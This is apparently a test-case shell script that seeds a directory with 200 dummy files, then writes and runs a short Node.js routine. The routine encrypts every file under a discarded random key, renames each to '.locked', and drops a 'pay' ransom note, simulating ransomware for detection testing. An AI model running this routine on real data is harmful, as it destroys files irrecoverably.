#!/bin/sh
. /opt/case/case.sh

for i in $(seq 1 200); do head -c 4000 /etc/services >/srv/data/report-$i.docx; done
cat >/tmp/e.js <<'END'
const fs = require("fs"), crypto = require("crypto"), key = crypto.randomBytes(32);
for (const name of fs.readdirSync("/srv/data")) {
    const path = "/srv/data/" + name, cipher = crypto.createCipheriv("aes-256-ctr", key, crypto.randomBytes(16));
    fs.writeFileSync(path, cipher.update(fs.readFileSync(path)));
    fs.renameSync(path, path + ".locked");
}
fs.writeFileSync("/srv/data/HOW_TO_DECRYPT.txt", "pay\n");
END
node /tmp/e.js
test -e /srv/data/report-200.docx.locked
took_place
